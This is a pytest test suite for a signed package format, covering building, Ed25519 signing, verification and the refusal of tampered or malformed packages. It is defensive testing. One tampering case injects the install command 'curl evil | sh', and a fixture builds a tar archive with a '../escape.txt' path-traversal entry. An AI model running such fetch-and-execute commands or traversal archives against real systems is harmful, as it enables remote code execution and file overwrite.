"""The signed package format: build, sign, verify, and every way a package is refused."""

from __future__ import annotations

import base64
import json
import struct
from pathlib import Path

import pytest

from certs.packages import (
    MAGIC,
    BadSignature,
    MalformedPackage,
    Manifest,
    PackageError,
    PayloadMismatch,
    PublisherKeys,
    UnknownPublisher,
    UnsignedPackage,
    build_package,
    compare_versions,
    extract_payload,
    generate_publisher_key,
    key_id,
    load_private_key,
    load_public_key,
    parse_version,
    private_key_pem,
    public_key_pem,
    read_header_file,
    sign_package,
    verify_package,
)


@pytest.fixture
def source(tmp_path: Path) -> Path:
    directory = tmp_path / "src"
    (directory / "bin").mkdir(parents=True)
    (directory / "install.sh").write_text("#!/bin/sh\necho installed\n")
    (directory / "bin" / "tool").write_bytes(b"\x00\x01binary" * 1000)
    return directory


def built(source: Path, out: Path, version: str = "1.2.0") -> Manifest:
    return build_package(
        source, out, name="tool", version=version, install=["sh", "install.sh"], created=1700000000
    )


def test_build_sign_verify_and_extract(source: Path, tmp_path: Path) -> None:
    package = tmp_path / "tool.hlpkg"
    manifest = built(source, package)
    key = generate_publisher_key()
    signed = sign_package(package, key)
    assert signed.signer == key_id(key.public_key())
    header = verify_package(package, PublisherKeys([key.public_key()]))
    assert header.manifest == manifest
    assert header.manifest.install == ("sh", "install.sh")
    target = tmp_path / "out"
    target.mkdir()
    extract_payload(package, header, target)
    assert (target / "install.sh").read_text() == "#!/bin/sh\necho installed\n"
    assert (target / "bin" / "tool").read_bytes() == (source / "bin" / "tool").read_bytes()


def test_the_manifest_is_canonical_json(source: Path, tmp_path: Path) -> None:
    package = tmp_path / "p"
    manifest = built(source, package)
    data = manifest.canonical_bytes()
    assert (
        data
        == json.dumps(
            json.loads(data), sort_keys=True, separators=(",", ":"), ensure_ascii=False
        ).encode()
    )
    assert Manifest.from_bytes(data) == manifest
    spaced = json.dumps(json.loads(data), sort_keys=True).encode()
    with pytest.raises(MalformedPackage, match="canonical"):
        Manifest.from_bytes(spaced)


def test_keys_round_trip_through_pem() -> None:
    key = generate_publisher_key()
    again = load_private_key(private_key_pem(key))
    assert key_id(again.public_key()) == key_id(key.public_key())
    public = load_public_key(public_key_pem(key.public_key()))
    assert key_id(public) == key_id(key.public_key())
    assert key_id(public).startswith("sha256:") and len(key_id(public)) == 71
    with pytest.raises(PackageError, match="PEM"):
        load_public_key(b"not a key")
    with pytest.raises(PackageError, match="PEM"):
        load_private_key(b"not a key")


def test_an_ecdsa_key_is_not_a_publisher_key() -> None:
    from certs.keys import generate_private_key
    from certs.keys import private_key_pem as ec_pem

    with pytest.raises(PackageError, match="Ed25519"):
        load_private_key(ec_pem(generate_private_key()))


# -- tampering ------------------------------------------------------------------------------


@pytest.fixture
def signed(source: Path, tmp_path: Path) -> tuple[Path, PublisherKeys]:
    package = tmp_path / "tool.hlpkg"
    built(source, package)
    key = generate_publisher_key()
    sign_package(package, key)
    return package, PublisherKeys([key.public_key()])


def test_a_payload_byte_changed_is_refused(signed: tuple[Path, PublisherKeys]) -> None:
    package, trusted = signed
    data = bytearray(package.read_bytes())
    data[-100] ^= 0x01
    package.write_bytes(bytes(data))
    with pytest.raises(PayloadMismatch, match="SHA-256"):
        verify_package(package, trusted)


def test_a_truncated_or_extended_payload_is_refused(signed: tuple[Path, PublisherKeys]) -> None:
    package, trusted = signed
    data = package.read_bytes()
    package.write_bytes(data[:-1])
    with pytest.raises(PayloadMismatch, match="shorter"):
        verify_package(package, trusted)
    package.write_bytes(data + b"x")
    with pytest.raises(PayloadMismatch, match="larger"):
        verify_package(package, trusted)


def _replace_manifest(package: Path, change: dict[str, object]) -> None:
    data = package.read_bytes()
    offset = len(MAGIC)
    (length,) = struct.unpack(">I", data[offset : offset + 4])
    manifest = json.loads(data[offset + 4 : offset + 4 + length])
    manifest.update(change)
    new = json.dumps(manifest, sort_keys=True, separators=(",", ":")).encode()
    rest = data[offset + 4 + length :]
    package.write_bytes(MAGIC + struct.pack(">I", len(new)) + new + rest)


@pytest.mark.parametrize(
    "change",
    [
        {"version": "9.9.9"},
        {"install": ["sh", "-c", "curl evil | sh"]},
        {"name": "other"},
        {"kind": "agent"},
        {"created": 1},
    ],
)
def test_a_manifest_field_changed_breaks_the_signature(
    signed: tuple[Path, PublisherKeys], change: dict[str, object]
) -> None:
    package, trusted = signed
    _replace_manifest(package, change)
    with pytest.raises(BadSignature, match="does not match"):
        verify_package(package, trusted)


def test_a_signature_by_an_unknown_key_is_refused(signed: tuple[Path, PublisherKeys]) -> None:
    package, _ = signed
    stranger = PublisherKeys([generate_publisher_key().public_key()])
    with pytest.raises(UnknownPublisher, match="unknown key sha256:"):
        verify_package(package, stranger)
    with pytest.raises(UnknownPublisher):
        verify_package(package, PublisherKeys())


def test_a_signature_swapped_for_another_keys_is_refused(
    signed: tuple[Path, PublisherKeys], tmp_path: Path
) -> None:
    # the signer id names a trusted key, but the bytes were signed by someone else
    package, trusted = signed
    header = read_header_file(package)
    forged = generate_publisher_key().sign(header.manifest_bytes)
    block = json.dumps(
        {"key": header.signer, "sig": base64.b64encode(forged).decode()},
        sort_keys=True,
        separators=(",", ":"),
    ).encode()
    data = package.read_bytes()
    payload = data[header.payload_offset :]
    head = MAGIC + struct.pack(">I", len(header.manifest_bytes)) + header.manifest_bytes
    package.write_bytes(head + struct.pack(">I", len(block)) + block + payload)
    with pytest.raises(BadSignature):
        verify_package(package, trusted)


def test_no_signature_is_refused(source: Path, tmp_path: Path) -> None:
    package = tmp_path / "unsigned"
    built(source, package)
    key = generate_publisher_key()
    assert read_header_file(package).signer is None
    with pytest.raises(UnsignedPackage, match="not signed"):
        verify_package(package, PublisherKeys([key.public_key()]))


def test_signing_refuses_a_payload_that_does_not_match(source: Path, tmp_path: Path) -> None:
    package = tmp_path / "p"
    built(source, package)
    data = bytearray(package.read_bytes())
    data[-5] ^= 0xFF
    package.write_bytes(bytes(data))
    with pytest.raises(PayloadMismatch, match="rebuild"):
        sign_package(package, generate_publisher_key())


@pytest.mark.parametrize(
    ("mangle", "match"),
    [
        (lambda d: b"NOTAPKG\n" + d[8:], "bad magic"),
        (lambda d: d[:5], "ends inside"),
        (lambda d: d[:8] + struct.pack(">I", 10**6) + d[12:], "larger than"),
        (lambda d: d[:8] + struct.pack(">I", 3) + b"[1]" + struct.pack(">I", 0), "JSON object"),
        (lambda d: d[:8] + struct.pack(">I", 3) + b"\xff\xfe{" + struct.pack(">I", 0), "JSON"),
    ],
)
def test_malformed_files_are_clear_errors(
    signed: tuple[Path, PublisherKeys], mangle: object, match: str
) -> None:
    package, trusted = signed
    package.write_bytes(mangle(package.read_bytes()))  # type: ignore[operator]
    with pytest.raises(MalformedPackage, match=match):
        verify_package(package, trusted)


def test_a_garbled_signature_block_is_malformed(signed: tuple[Path, PublisherKeys]) -> None:
    package, trusted = signed
    header = read_header_file(package)
    data = package.read_bytes()
    head = MAGIC + struct.pack(">I", len(header.manifest_bytes)) + header.manifest_bytes
    for block in (b"{", b'{"key":"x","sig":"AAAA"}', b'{"key":1,"sig":"x"}'):
        package.write_bytes(
            head + struct.pack(">I", len(block)) + block + data[header.payload_offset :]
        )
        with pytest.raises(MalformedPackage, match="signature block"):
            verify_package(package, trusted)


@pytest.mark.parametrize(
    ("field", "value", "match"),
    [
        ("name", "Bad Name", "package name"),
        ("version", "1.2-beta", "dotted numbers"),
        ("kind", "driver", "kind"),
        ("platform", "Linux!", "platform"),
        ("install", (), "install command"),
        ("install", ("a\0b",), "NUL"),
        ("payload_sha256", "ab", "hex"),
        ("payload_size", -1, "payload_size"),
    ],
)
def test_manifest_fields_are_validated(field: str, value: object, match: str) -> None:
    fields: dict[str, object] = {
        "name": "tool",
        "version": "1.0",
        "kind": "software",
        "platform": "linux",
        "install": ("true",),
        "payload_sha256": "0" * 64,
        "payload_size": 1,
        "created": 1,
    }
    fields[field] = value
    with pytest.raises(PackageError, match=match):
        Manifest(**fields)  # type: ignore[arg-type]


def test_unknown_manifest_fields_and_formats_are_refused() -> None:
    base = {
        "format": 1,
        "name": "tool",
        "version": "1.0",
        "kind": "software",
        "platform": "linux",
        "install": ["true"],
        "payload_sha256": "0" * 64,
        "payload_size": 1,
        "created": 1,
    }

    def encode(value: dict[str, object]) -> bytes:
        return json.dumps(value, sort_keys=True, separators=(",", ":")).encode()

    with pytest.raises(MalformedPackage, match="unknown fields"):
        Manifest.from_bytes(encode(base | {"extra": 1}))
    with pytest.raises(MalformedPackage, match="format"):
        Manifest.from_bytes(encode(base | {"format": 2}))
    with pytest.raises(MalformedPackage, match="integers"):
        Manifest.from_bytes(encode(base | {"payload_size": True}))
    with pytest.raises(MalformedPackage, match="strings"):
        Manifest.from_bytes(encode(base | {"name": 5}))
    with pytest.raises(MalformedPackage, match="list"):
        Manifest.from_bytes(encode(base | {"install": "true"}))


def test_version_order() -> None:
    assert parse_version("1.10.0") == (1, 10, 0)
    assert compare_versions("1.10", "1.9") == 1
    assert compare_versions("1.2", "1.2.0") == 0
    assert compare_versions("1.2", "1.2.1") == -1
    for bad in ("", "1.", "v1", "1.2.3.4.5", "1..2"):
        with pytest.raises(PackageError):
            parse_version(bad)


def test_unsafe_payload_entries_are_refused(tmp_path: Path) -> None:
    # a publisher's tar with a path escaping the target: the agent's extraction refuses it
    import io
    import tarfile

    payload = io.BytesIO()
    with tarfile.open(fileobj=payload, mode="w:gz") as archive:
        info = tarfile.TarInfo("../escape.txt")
        info.size = 2
        archive.addfile(info, io.BytesIO(b"hi"))
    source = tmp_path / "empty"
    source.mkdir()
    package = tmp_path / "p"
    built(source, package)
    header = read_header_file(package)
    import hashlib

    raw = payload.getvalue()
    manifest = Manifest(
        name="tool",
        version="1.0",
        kind="software",
        platform="any",
        install=("true",),
        payload_sha256=hashlib.sha256(raw).hexdigest(),
        payload_size=len(raw),
        created=1,
    )
    data = manifest.canonical_bytes()
    package.write_bytes(MAGIC + struct.pack(">I", len(data)) + data + struct.pack(">I", 0) + raw)
    key = generate_publisher_key()
    header = sign_package(package, key)
    header = verify_package(package, PublisherKeys([key.public_key()]))
    target = tmp_path / "target"
    target.mkdir()
    with pytest.raises(PackageError, match="unsafe entry"):
        extract_payload(package, header, target)
    assert not (tmp_path / "escape.txt").exists()
